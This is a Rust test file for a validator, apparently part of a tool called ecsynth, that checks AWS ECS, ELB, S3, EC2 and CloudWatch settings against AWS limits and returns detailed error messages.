        edit_app(|app| app.health_check = Some(at(300, 120, 10, 300))),
        Vec::<String>::new()
    );
    assert_eq!(
        edit_app(|app| {
            let mut check = at(30, 5, 3, 0);
            check.command = vec!["curl -f localhost".into()];
            app.health_check = Some(check);
        }),
        ["error: stack `shop` › service `api` › container `app` › `health_check.command`: [\"curl -f localhost\"] is not a health check command; start with `CMD` and the program and its arguments, or `CMD-SHELL` and a shell command (`ContainerHealthCheck::shell`)"]
    );
}

#[test]
fn container_memory_is_at_least_docker_minimum() {
    assert_eq!(edit_app(|app| app.memory = Some(5)), ["error: stack `shop` › service `api` › container `app` › `memory`: 5 MiB is below Docker's minimum hard limit of 6 MiB; give at least 6"]);
}

#[test]
fn task_definition_fits_64_kib() {
    assert_eq!(
        edit_app(|app| *app = app.clone().env("BIG", &"x".repeat(64 * 1024))),
        ["error: stack `shop` › service `api` › `containers`: the task definition takes about 67264 bytes (`app` 66240), more than ECS's 65536 (64 KiB); move large environment values into secrets or a configuration file"]
    );
}

#[test]
fn a_stack_without_a_backend_is_warned_and_a_bad_state_bucket_refused() {
    let mut stack = stack_with(|_, _| {});
    stack.backend = None;
    assert_eq!(
        messages(&stack),
        [
            "warning: stack `shop` › `backend`: no backend chosen: Terraform keeps the state in \
          out/shop/terraform.tfstate, which git ignores and a clean checkout loses; use \
          `stack.backend(Backend::s3(bucket, region))` for a stack a team deploys, or \
          `Backend::Local` to keep a throwaway stack's state local on purpose"
        ]
    );
    stack.backend(Backend::s3("Team_State", "eu-west-1"));
    assert_eq!(
        messages(&stack),
        [
            "error: stack `shop` › `backend.bucket`: `Team_State` is not an S3 bucket name: S3 \
          bucket names allow only a-z, 0-9, `.` and `-`"
        ]
    );
    stack.backend(Backend::s3("team-state", "eu-west-1"));
    assert_eq!(messages(&stack), Vec::<String>::new());
}

/// S3 User Guide, "General purpose bucket naming rules": no two adjacent periods, not an IP
/// address, no reserved prefix (`xn--`, `sthree-`, `amzn-s3-demo-`) or suffix (`-s3alias`,
/// `--ol-s3`, `.mrap`, `--x-s3`, `--table-s3`). S3 CreateBucket refuses these; Terraform's
/// backend only fails at `terraform init`.
#[test]
fn state_buckets_follow_s3_bucket_naming_rules() {
    let mut stack = stack_with(|_, _| {});
    let mut refusal = |bucket: &str| {
        stack.backend(Backend::s3(bucket, "eu-west-1"));
        messages(&stack)
    };
    assert_eq!(
        refusal("team..state"),
        [
            "error: stack `shop` › `backend.bucket`: `team..state` is not an S3 bucket name: S3 \
          bucket names have no two adjacent periods"
        ]
    );
    assert_eq!(
        refusal("192.168.5.4"),
        [
            "error: stack `shop` › `backend.bucket`: `192.168.5.4` is not an S3 bucket name: S3 \
          bucket names are not formatted as an IP address"
        ]
    );
    assert_eq!(
        refusal("xn--state"),
        [
            "error: stack `shop` › `backend.bucket`: `xn--state` is not an S3 bucket name: S3 \
          reserves names starting with `xn--`"
        ]
    );
    assert_eq!(
        refusal("team-state--ol-s3"),
        ["error: stack `shop` › `backend.bucket`: `team-state--ol-s3` is not an S3 bucket name: \
          S3 reserves names ending with `--ol-s3`"]
    );
    assert_eq!(
        refusal("team\nstate"),
        [
            "error: stack `shop` › `backend.bucket`: `team\\nstate` is not an S3 bucket name: S3 \
          bucket names allow only a-z, 0-9, `.` and `-`"
        ]
    );
    assert_eq!(refusal("team.state-1"), Vec::<String>::new());
}

/// The state bucket's region must be a real region (AWS General Reference, "Regions and
/// endpoints"); `terraform init` otherwise fails to resolve the endpoint. Only the `aws`
/// partition's regions, the ones ecsynth supports.
#[test]
fn the_state_bucket_region_is_a_region_of_the_aws_partition() {
    let mut stack = stack_with(|_, _| {});
    stack.backend(Backend::s3("team-state", "eu-west-9"));
    assert_eq!(
        messages(&stack),
        [format!(
            "error: stack `shop` › `backend.region`: `eu-west-9` is not a region of the `aws` \
             partition, where the state bucket must live; did you mean `eu-west-1`? regions: {}",
            ecsynth::model::validate::KNOWN_REGIONS.join(", ")
        )]
    );
    stack.backend(Backend::s3("team-state", "eu-west-1\n"));
    assert!(
        messages(&stack)[0].starts_with(
            "error: stack `shop` › `backend.region`: `eu-west-1\\n` is not a region of the `aws` \
             partition"
        ),
        "{:?}",
        messages(&stack)
    );
    stack.backend(Backend::s3("team-state", "us-east-1"));
    assert_eq!(messages(&stack), Vec::<String>::new());
}

/// Terraform's S3 backend refuses a key starting or ending with `/` (Terraform 1.11
/// `internal/backend/remote-state/s3/validate.go`, `validateStringS3Path`); an S3 object key
/// has at most 1024 bytes (S3 User Guide, "Naming Amazon S3 objects"), whose guidelines name
/// the safe characters (letters, digits, `!-_.*'()`, `/`) and warn about `.`/`..` segments.
#[test]
fn the_state_key_is_an_s3_key_terraform_takes() {
    let mut stack = stack_with(|_, _| {});
    let mut refusal = |key: &str| {
        let mut backend = Backend::s3("team-state", "eu-west-1");
        if let Backend::S3(s3) = &mut backend {
            s3.key = Some(key.into());
        }
        stack.backend(backend);
        messages(&stack)
    };
    assert_eq!(
        refusal("/shop/terraform.tfstate"),
        [
            "error: stack `shop` › `backend.key`: `/shop/terraform.tfstate` starts or ends with \
          `/`, which Terraform's S3 backend refuses; e.g. `<stack>/terraform.tfstate`"
        ]
    );
    assert_eq!(
        refusal("shop\r/terraform.tfstate"),
        [
            "error: stack `shop` › `backend.key`: `shop\\r/terraform.tfstate` contains U+000D; \
          S3's safe key characters are letters, digits, `!-_.*'()` and `/`; e.g. \
          `<stack>/terraform.tfstate`"
        ]
    );
    assert_eq!(
        refusal("state/../terraform.tfstate"),
        [
            "error: stack `shop` › `backend.key`: `state/../terraform.tfstate` has a `.` or `..` \
          segment, which tools read as a relative path; e.g. `<stack>/terraform.tfstate`"
        ]
    );
    assert_eq!(
        refusal(""),
        [
            "error: stack `shop` › `backend.key`: `` is 0 bytes; an S3 object key has 1 to 1024; \
          e.g. `<stack>/terraform.tfstate`"
        ]
    );
    assert_eq!(
        refusal("teams/shop/terraform.tfstate"),
        Vec::<String>::new()
    );
}

/// ELB access logs: the prefix is an ELB attribute value of at most 1024 characters (botocore
/// 1.44.8 `elbv2/2015-12-01/service-2.json`, `LoadBalancerAttributeValue`) and the start of
/// every log's S3 object key, of S3's safe characters (S3 User Guide, "Naming Amazon S3
/// objects", Safe characters); the bucket follows the S3 bucket naming rules.
#[test]
fn access_log_prefixes_are_bounded_and_printable() {
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().access_logs("shop..logs", "prod\nweb")),
        [
            "error: stack `shop` › load balancer `web` › `access_logs.bucket`: `shop..logs` is \
             not an S3 bucket name: S3 bucket names have no two adjacent periods",
            "error: stack `shop` › load balancer `web` › `access_logs.prefix`: `prod\\nweb` \
             contains U+000A; S3's safe key characters are letters, digits, `!-_.*'()` and `/`; \
             the prefix starts each log's S3 object key",
        ]
    );
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().access_logs("shop-logs", "prod/${web}")),
        [
            "error: stack `shop` › load balancer `web` › `access_logs.prefix`: `prod/${web}` \
          contains `$`; S3's safe key characters are letters, digits, `!-_.*'()` and `/`; the \
          prefix starts each log's S3 object key"
        ]
    );
    let long = "p".repeat(1025);
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().access_logs("shop-logs", &long)),
        [format!(
            "error: stack `shop` › load balancer `web` › `access_logs.prefix`: `{}` is 1025 \
             bytes; ELB takes a prefix of at most 1024",
            ecsynth::model::cut(&long)
        )]
    );
}

/// EC2 resource ids are the type's prefix and 8 or 17 lower-case hexadecimal digits (EC2 User
/// Guide, "Resource IDs"); EC2 refuses others at apply time with `InvalidVpcID.Malformed` and
/// `InvalidSubnetID.Malformed`.
#[test]
fn vpc_and_subnet_ids_given_as_values_are_ec2_ids() {
    let mut stack = stack_with(|_, _| {});
    stack.network = Network {
        vpc_id: Input::Value("vpc-main".into()),
        subnet_ids: Input::Value(vec![
            "subnet-0a1b2c3d".into(),
            "subnet-0A1B2C3D4E5F67890".into(),
        ]),
        load_balancer_subnet_ids: Some(Input::Value(vec![
            "subnet-0a1b2c3d4e5f67890".into(),
            "subnet-1\n".into(),
        ])),
    };
    assert_eq!(
        messages(&stack),
        [
            "error: stack `shop` › `network.vpc_id`: `vpc-main` is not a VPC id: `vpc-` and 8 or \
             17 lower-case hexadecimal digits, e.g. `vpc-0a1b2c3d4e5f67890`",
            "error: stack `shop` › `network.subnet_ids`: `subnet-0A1B2C3D4E5F67890` is not a \
             subnet id: `subnet-` and 8 or 17 lower-case hexadecimal digits, e.g. \
             `subnet-0a1b2c3d4e5f67890`",
            "error: stack `shop` › `network.load_balancer_subnet_ids`: `subnet-1\\n` is not a \
             subnet id: `subnet-` and 8 or 17 lower-case hexadecimal digits, e.g. \
             `subnet-0a1b2c3d4e5f67890`",
        ]
    );
}

#[test]
fn access_log_destinations_and_the_log_key() {
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().access_logs("Logs_Bucket", "/prod/AWSLogs")),
        [
            "error: stack `shop` › load balancer `web` › `access_logs.bucket`: `Logs_Bucket` is \
             not an S3 bucket name: S3 bucket names allow only a-z, 0-9, `.` and `-`",
            "error: stack `shop` › load balancer `web` › `access_logs.prefix`: `/prod/AWSLogs` \
             must not start or end with `/` nor contain `AWSLogs`, which ELB adds itself",
        ]
    );
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().access_logs("shop-logs", "prod/web")),
        Vec::<String>::new()
    );
    let mut stack = stack_with(|_, _| {});
    stack.log_kms_key("arn:aws:kms:us-east-1:123456789012:key/1234");
    assert_eq!(
        messages(&stack),
        ["error: stack `shop` › `log_kms_key`: `arn:aws:kms:us-east-1:123456789012:key/1234` is \
          not a KMS key ARN of the stack's region; write \
          `arn:aws:kms:eu-west-1:<account>:key/<key id>`"]
    );
    stack.log_kms_key("arn:aws:kms:eu-west-1:123456789012:key/1234");
    assert_eq!(messages(&stack), Vec::<String>::new());
}

// ---------------------------------------------------------------------------------------------
// Limits AWS enforces only at apply time (issue 20, item 4)

/// Application Auto Scaling StepAdjustment: "If one step adjustment has a positive upper
/// bound, then there must be a step adjustment with a null upper bound", and likewise for a
/// negative lower bound (botocore 1.44.8, `application-autoscaling/2016-02-06/service-2.json`,
/// shape `StepAdjustment`).
#[test]
fn steps_with_a_positive_upper_bound_need_one_unbounded_above() {
    assert_eq!(
        scaled(|s| {
            s.scale_out = vec![
                Step::adjustment(1).lower_bound(0.0).upper_bound(10.0),
                Step::adjustment(3).lower_bound(10.0).upper_bound(20.0),
            ];
        }),
        ["error: stack `shop` › service `api` › `scaling.scale_out`: a step ends at 10 above the threshold, and no step is unbounded above; Application Auto Scaling needs one step with no upper bound when any upper bound is positive"]
    );
    assert_eq!(
        scaled(|s| s.scale_in = vec![Step::adjustment(-1).lower_bound(-10.0).upper_bound(0.0)]),
        ["error: stack `shop` › service `api` › `scaling.scale_in`: a step starts at -10 below the threshold, and no step is unbounded below; Application Auto Scaling needs one step with no lower bound when any lower bound is negative"]
    );
}

/// CloudWatch PutMetricAlarm, `Period`: "Period multiplied by EvaluationPeriods can't be more
/// than 604,800 seconds. For alarms with a period of less than one hour (3,600 seconds), the
/// total evaluation period can't be longer than one day (86,400 seconds)" (botocore 1.44.8,
/// `cloudwatch/2010-08-01/service-2.json`, `PutMetricAlarmInput.Period`).
#[test]
fn alarm_period_times_evaluation_periods_is_at_most_a_day_or_a_week() {
    assert_eq!(scaled(|s| *s = s.clone().evaluation_periods(1441).period_seconds(60)), ["error: stack `shop` › service `api` › `scaling.evaluation_periods`: 1441 periods of 60 s evaluate 86460 s; CloudWatch allows at most 86400 s (1 day for periods under an hour): at most 1440 periods"]);
    assert_eq!(
        scaled(|s| *s = s.clone().evaluation_periods(1440).period_seconds(60)),
        Vec::<String>::new()
    );
    assert_eq!(scaled(|s| *s = s.clone().evaluation_periods(169).period_seconds(3600)), ["error: stack `shop` › service `api` › `scaling.evaluation_periods`: 169 periods of 3600 s evaluate 608400 s; CloudWatch allows at most 604800 s (7 days): at most 168 periods"]);
    assert_eq!(
        scaled(|s| *s = s.clone().evaluation_periods(168).period_seconds(3600)),
        Vec::<String>::new()
    );
}

/// ECS service quotas: "Containers per task definition: 10", not adjustable (ECS Developer
/// Guide, Amazon ECS service quotas).
#[test]
fn a_task_definition_holds_at_most_ten_containers() {
    let sidecars = |count: usize| {
        problems(|_, service| {
            for n in 0..count {
                service
                    .containers
                    .push(Container::new(&format!("sidecar{n}"), "busybox:1.36"));
            }
        })
    };
    assert_eq!(sidecars(10), ["error: stack `shop` › service `api` › `containers`: 11 containers; an ECS task definition holds at most 10: move some into a service of their own"]);
    assert_eq!(sidecars(9), Vec::<String>::new());
}

/// EC2 User Guide, "Run commands when you launch an EC2 instance with user data input": user
/// data is limited to 16 KB in raw form, before base64 encoding; EC2 API
/// `RequestLaunchTemplateData.UserData` (botocore 1.44.8, `ec2/2016-11-15/service-2.json`):
/// "User data is limited to 16 KB". Measured on the script lowering renders.
#[test]
fn user_data_is_at_most_16_kb() {
    // One setting padded so that the script lowering renders is `bytes` long.
    let padded = |bytes: usize| {
        capacity(|c| {
            let base = c.clone().agent_setting("ECS_PAD", "");
            let pad = bytes - base.user_data("shop", "shop").len();
            let padded = c.agent_setting("ECS_PAD", &"x".repeat(pad));
            assert_eq!(padded.user_data("shop", "shop").len(), bytes);
            padded
        })
    };
    assert_eq!(padded(16_385), ["error: stack `shop` › capacity provider `general` › `user_data`: the user data script is 16385 bytes (21848 base64-encoded), more than EC2's 16384 bytes (16 KB) before encoding; shorten the agent and kernel settings"]);
    assert_eq!(padded(16_384), Vec::<String>::new());
}

/// EBS User Guide, "Amazon EBS volume types": gp3 volumes are 1 GiB to 16 TiB; the root
/// volume lowering writes is gp3.
#[test]
fn root_volume_fits_a_gp3_volume() {
    assert_eq!(capacity(|c| c.root_volume_gib(16_385)), ["error: stack `shop` › capacity provider `general` › `root_volume_gib`: 16385 GiB is larger than a gp3 volume can be; allowed: 30 to 16384 GiB (16 TiB)"]);
    assert_eq!(
        capacity(|c| c.root_volume_gib(16_384)),
        Vec::<String>::new()
    );
}

/// EC2 `InstanceType` enum (botocore 1.44.8, `ec2/2016-11-15/service-2.json`), checked in as
/// `src/model/validate/instance_types.txt` by `scripts/instance_types.py`: a type outside it is
/// refused at apply (`InvalidParameterValue`), so it is an error, not a warning.
#[test]
fn instance_types_come_from_ec2s_list() {
    let typed = |instance_type: &str| {
        capacity(|c| Ec2Capacity {
            instance_type: instance_type.into(),
            ..c
        })
    };
    assert_eq!(typed("m6i.huge"), ["error: stack `shop` › capacity provider `general` › `instance_type`: `m6i.huge` is not an EC2 instance type; `m6i` comes in large, xlarge, 2xlarge, 4xlarge, 8xlarge, 12xlarge, 16xlarge, 24xlarge, 32xlarge, metal"]);
    assert_eq!(typed("m6x.large"), ["error: stack `shop` › capacity provider `general` › `instance_type`: `m6x.large` is not an EC2 instance type: no family `m6x` in EC2's list of instance types (`family.size`, e.g. `m6i.large`); did you mean family `m6a`?"]);
    assert_eq!(typed("large"), ["error: stack `shop` › capacity provider `general` › `instance_type`: `large` is not an EC2 instance type: no family `large` in EC2's list of instance types (`family.size`, e.g. `m6i.large`)"]);
    // A type whose size ecsynth does not know is still a type: the task's fit is not checked.
    assert_eq!(typed("x2idn.16xlarge"), Vec::<String>::new());
    assert_eq!(typed("u7i-12tb.224xlarge"), Vec::<String>::new());
}

/// ELB: CreateTargetGroup refuses a health check path that is not "a '/' and … only the
/// characters: a-z, A-Z, 0-9, and @:%_+.~#?&/=" (the ELB validation message, quoted in
/// apollographql/router#1852); `HealthCheckPath` is 1 to 1024 characters (botocore 1.44.8,
/// `elbv2/2015-12-01/service-2.json`, shape `Path`).
#[test]
fn health_check_path_characters_and_length() {
    assert_eq!(
        problems(|_, service| health(service).path = Some("/?query={__typename}".into())),
        ["error: stack `shop` › service `api` › `traffic.health_check.path`: `/?query={__typename}` contains `{`; a health check path allows A-Z, a-z, 0-9 and `-@:%_+.~#?&/=` (percent-encode other characters)"]
    );
    assert_eq!(
        problems(|_, service| health(service).path = Some(format!("/{}", "a".repeat(1024)))),
        ["error: stack `shop` › service `api` › `traffic.health_check.path`: `/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa… (825 of 1025 characters not shown) …` is 1025 characters; a target group health check path has at most 1024"]
    );
    assert_eq!(
        problems(|_, service| health(service).path = Some("/health-check?full=1&x=%7B".into())),
        Vec::<String>::new()
    );
}

/// ELB User Guide, "Listener rules for your Application Load Balancer", condition types: a
/// host header holds A-Z, a-z, 0-9, `- .`, `*` and `?`; a path pattern A-Z, a-z, 0-9,
/// `_ - . $ / ~ " ' @ : +`, `&`, `*` and `?`.
/// A Host header is a DNS name, labels joined by single dots (RFC 1035 §2.3.1): a host
/// condition `..` or `.example.com` could never match a request.
#[test]
fn listener_rule_hosts_have_no_empty_label() {
    assert_eq!(
        routed(vec![("orders", RuleMatch::host("shop..example.com"))]),
        ["error: stack `shop` › service `orders` › `traffic.route`: host `shop..example.com` has \
          an empty label; a host is labels joined by single dots, e.g. `shop.example.com` or \
          `*.example.com`"]
    );
}

#[test]
fn listener_rule_host_and_path_characters() {
    assert_eq!(
        routed(vec![(
            "orders",
            RuleMatch::host("shop_eu.example.com").and_path("/orders/{id}")
        )]),
        ["error: stack `shop` › service `orders` › `traffic.route`: host `shop_eu.example.com` contains `_`; a host condition allows A-Z, a-z, 0-9, `-`, `.` and the wildcards `*` and `?`", "error: stack `shop` › service `orders` › `traffic.route`: path pattern `/orders/{id}` contains `{`; a path condition allows A-Z, a-z, 0-9, `_-.$/~\"'@:+&` and the wildcards `*` and `?`"]
    );
    assert_eq!(
        routed(vec![(
            "orders",
            RuleMatch::host("*.example.co?").and_path("/orders/$~\"'@:+&*?")
        )]),
        Vec::<String>::new()
    );
}

/// ELB evaluates rules by priority and the first match wins: a rule whose every request
/// another rule of a lower number matches never receives one (ELB User Guide, "Listener rules
/// for your Application Load Balancer", rule priority).
#[test]
fn a_rule_that_can_never_match_is_refused() {
    assert_eq!(
        routed(vec![
            (
                "site",
                RuleMatch::host("example.com")
                    .and_host("www.example.com")
                    .and_path("/orders/*")
                    .priority(10)
            ),
            ("orders", RuleMatch::host("WWW.example.com").and_path("/orders/*").priority(20)),
        ]),
        ["error: stack `shop` › service `orders` › `traffic.route`: the rule of service `orders` (priority 20) can never match: the rule of service `site` (priority 10) is evaluated first and matches every request it would (hosts `example.com`, `www.example.com`; paths `/orders/*`); pin a lower priority for the narrower rule with `RuleMatch::priority`, or give the rules different hosts or paths"]
    );
    assert_eq!(
        routed(vec![
            ("orders", RuleMatch::host("api.example.com").and_path("/orders/*").priority(10)),
            ("all", RuleMatch::host("*.example.com").priority(5)),
        ]),
        ["error: stack `shop` › service `orders` › `traffic.route`: the rule of service `orders` (priority 10) can never match: the rule of service `all` (priority 5) is evaluated first and matches every request it would (hosts `*.example.com`; every path); pin a lower priority for the narrower rule with `RuleMatch::priority`, or give the rules different hosts or paths"]
    );
    assert_eq!(
        routed(vec![
            (
                "orders",
                RuleMatch::host("api.example.com")
                    .and_path("/orders/*")
                    .priority(5)
            ),
            ("all", RuleMatch::host("*.example.com").priority(10)),
        ]),
        Vec::<String>::new(),
        "the narrower rule first is the fix"
    );
}

/// EC2 AuthorizeSecurityGroupIngress refuses a rule the group already has
/// (`InvalidPermission.Duplicate`, EC2 API error codes); each range is one rule per listener.
#[test]
fn a_security_group_takes_each_cidr_once() {
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().allowed_cidrs(&["10.0.0.0/8", "10.0.0.0/8"])),
        ["error: stack `shop` › load balancer `web` › `allowed_cidrs`: `10.0.0.0/8` is listed twice; each range becomes a security group rule, and EC2 refuses a group the same rule twice: list each range once"]
    );
    assert_eq!(
        classic(|elb, _| elb.allowed_cidrs = vec!["10.0.0.0/8".into(), "10.0.0.0/8".into()]),
        ["error: stack `shop` › classic load balancer `jenkins` › `allowed_cidrs`: `10.0.0.0/8` is listed twice; each range becomes a security group rule, and EC2 refuses a group the same rule twice: list each range once"]
    );
}

/// ELBv2 CreateListener `Certificates`: "[HTTPS and TLS listeners] The default certificate for
/// the listener" (botocore 1.44.8, `elbv2/2015-12-01/service-2.json`); an HTTP listener with
/// one is refused.
#[test]
fn http_listeners_take_no_certificate() {
    assert_eq!(
        problems(|lb, _| {
            lb.prod_listener.certificate_arn =
                Some("arn:aws:acm:eu-west-1:123456789012:certificate/0b6f8e1c-2f4d".into());
        }),
        ["error: stack `shop` › load balancer `web` › `prod_listener.certificate_arn`: `arn:aws:acm:eu-west-1:123456789012:certificate/0b6f8e1c-2f4d` is given, but HTTP listeners take no certificate (HTTPS and TLS listeners do); use `Listener::https(port, certificate_arn)` to terminate TLS, or drop the certificate"]
    );
}

/// A secret ARN `arn:aws:…` is of the `aws` partition, so its region is one of that
/// partition's (AWS General Reference, Regions and endpoints; ECS Developer Guide, "Pass
/// sensitive data": a secret of another region is given by its full ARN).
#[test]
fn secret_arns_name_a_region_of_the_aws_partition() {
    assert_eq!(
        edit_app(|app| {
            *app = app
                .clone()
                .secret("A", "arn:aws:ssm:eu-west-9:123456789012:parameter/a")
                .secret("B", "arn:aws:secretsmanager:cn-north-1:123456789012:secret:db")
                .secret("C", "arn:aws:ssm:us-east-1:123456789012:parameter/a")
        }),
        ["error: stack `shop` › service `api` › container `app` › `secrets.A`: `arn:aws:ssm:eu-west-9:123456789012:parameter/a` is not a well-formed ARN: `eu-west-9` is not a region of the `aws` partition (`arn:aws:`); did you mean `eu-west-1`?", "error: stack `shop` › service `api` › container `app` › `secrets.B`: `arn:aws:secretsmanager:cn-north-1:123456789012:secret:db` is not a well-formed ARN: `cn-north-1` is not a region of the `aws` partition (`arn:aws:`); it is a region of the `aws-cn` partition, whose ARNs start `arn:aws-cn:`"]
    );
}

/// ECS `Volume.name`: "Up to 255 letters (uppercase and lowercase), numbers, underscores, and
/// hyphens are allowed" (botocore 1.44.8, `ecs/2014-11-13/service-2.json`, shape `Volume`).
#[test]
fn volume_names_are_ecs_volume_names() {
    let volume = |name: String| {
        problems(|_, service| {
            service.volumes.push(Volume::scratch(&name));
            service.containers[0] = service.containers[0].clone().mount(&name, "/data");
        })
    };
    assert_eq!(volume("app.data".into()), ["error: stack `shop` › service `api` › `volumes`: volume name `app.data` (8 characters, contains `.`) is not an ECS volume name: 1 to 255 of A-Z, a-z, 0-9, `_` and `-`"]);
    assert_eq!(volume("v".repeat(256)), ["error: stack `shop` › service `api` › `volumes`: volume name `vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv… (56 of 256 characters not shown) …` (256 characters) is not an ECS volume name: 1 to 255 of A-Z, a-z, 0-9, `_` and `-`"]);
    assert_eq!(volume("app_data-1".into()), Vec::<String>::new());
}

/// EFS CreateFileSystem `CreationToken`: 1 to 64 characters (botocore 1.44.8,
/// `efs/2015-02-01/service-2.json`, shape `CreationToken`); lowering writes
/// `<stack>-<service>-<volume>`.
#[test]
fn efs_creation_token_is_at_most_64() {
    let volume = |name: String| {
        problems(|_, service| {
            service.volumes.push(Volume::efs(
                &name,
                PosixUser {
                    uid: 1000,
                    gid: 1000,
                },
            ));
            service.containers[0] = service.containers[0].clone().mount(&name, "/data");
        })
    };
    // `shop-api-` is 9 characters.
    assert_eq!(volume("d".repeat(56)), ["error: stack `shop` › service `api` › `volumes.dddddddddddddddddddddddddddddddddddddddddddddddddddddddd`: the EFS creation token `shop-api-dddddddddddddddddddddddddddddddddddddddddddddddddddddddd` (`<stack>-<service>-<volume>`) is 65 characters; EFS allows at most 64: shorten the volume or service name"]);
    assert_eq!(volume("d".repeat(55)), Vec::<String>::new());
}

/// AppSpec `Hooks` name Lambda functions CodeDeploy invokes with its service role, whose
/// managed policy `AWSCodeDeployRoleForECSLimited` allows `lambda:InvokeFunction` on
/// `arn:aws:lambda:*:*:function:CodeDeployHook_*` only (CodeDeploy User Guide, "AppSpec
/// 'hooks' section for an Amazon ECS deployment"; AWS managed policy reference); a function
/// name is 1 to 64 of `[a-zA-Z0-9-_]` (botocore 1.44.8, `lambda/2015-03-31/service-2.json`).
#[test]
fn codedeploy_hooks_name_functions_the_role_may_invoke() {
    use ecsynth::model::HookEvent;
    let hooked = |functions: &[&str]| {
        problems(|_, service| {
            let mut settings = code_deploy(service).clone();
            for function in functions {
                settings = settings.hook(HookEvent::AfterAllowTestTraffic, function);
            }
            *code_deploy(service) = settings;
        })
    };
    assert_eq!(
        hooked(&[
            "",
            "smoke-test",
            "CodeDeployHook smoke",
            "arn:aws:lambda:eu-west-1:123:function:CodeDeployHook_smoke",
        ]),
        ["error: stack `shop` › service `api` › `deployment.hooks.AfterAllowTestTraffic`: the hook names no function; give a Lambda function named `CodeDeployHook_…`", "error: stack `shop` › service `api` › `deployment.hooks.AfterAllowTestTraffic`: `smoke-test` does not start with `CodeDeployHook_`; the CodeDeploy role (AWSCodeDeployRoleForECSLimited) may invoke only functions named `CodeDeployHook_*`, so the deployment would fail at this hook: rename the function", "error: stack `shop` › service `api` › `deployment.hooks.AfterAllowTestTraffic`: `CodeDeployHook smoke` is not a Lambda function name: 1 to 64 of A-Z, a-z, 0-9, `-` and `_`", "error: stack `shop` › service `api` › `deployment.hooks.AfterAllowTestTraffic`: `arn:aws:lambda:eu-west-1:123:function:CodeDeployHook_smoke` is not a Lambda function ARN of the `aws` partition; write `arn:aws:lambda:<region>:<account>:function:CodeDeployHook_<name>` or the function name alone"]
    );
    assert_eq!(
        hooked(&[
            "CodeDeployHook_smoke",
            "arn:aws:lambda:eu-west-1:123456789012:function:CodeDeployHook_smoke:live",
        ]),
        Vec::<String>::new()
    );
}

/// CloudWatch API reference, PutMetricAlarm `AlarmName`: at most 255 characters. Rollback
/// alarms are named `<stack>-<service>-<target group>-<metric>`; the longest stands for all.
#[test]
fn rollback_alarm_name_too_long() {
    let name = "a".repeat(240);
    let alarm_messages: Vec<String> = problems(|_, service| service.name = name.clone())
        .into_iter()
        .filter(|message| message.contains("CloudWatch alarm"))
        .collect();
    assert_eq!(
        alarm_messages,
        [format!(
            "error: stack `shop` › service `{shown}… (50 of 250 characters not shown) …` › `name`: \
             CloudWatch alarm name \
             `shop-{name}-green-unhealthy` (made from the stack name `shop` and the service name \
             `{name}`) is 261 characters, AWS allows at most 255; shorten the stack name `shop` \
             or the service name `{name}` by 6 characters",
            // The path segment ``service `…` `` is cut at 200 characters, its closing quote kept.
            shown = "a".repeat(190),
        )]
    );
}
